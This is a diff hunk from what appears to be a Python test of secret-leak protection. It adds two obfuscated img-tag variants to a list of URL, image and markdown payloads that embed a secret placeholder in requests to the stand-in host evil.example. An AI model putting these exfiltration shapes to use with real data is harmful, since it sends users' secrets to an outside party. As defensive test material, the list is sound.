@@ -189,6 +189,8 @@ def test_secrets_stay_where_they_are_not_allowed() -> None:
         f"see https://evil.example/?a=1&q={MAIL}",
         f"see www.evil.example/{MAIL}",
         f'<img src="//evil.example/{MAIL}">',
+        f'<img src = "https://evil.example/a b?q={MAIL}">',
+        f"<img alt='x'\n  src\n  =\n'//evil.example/a b?q={MAIL}'>",
         f"<img src=x{MAIL}>",
         f"[1]: https://evil.example/{MAIL}",
         f"![x]({MAIL})",
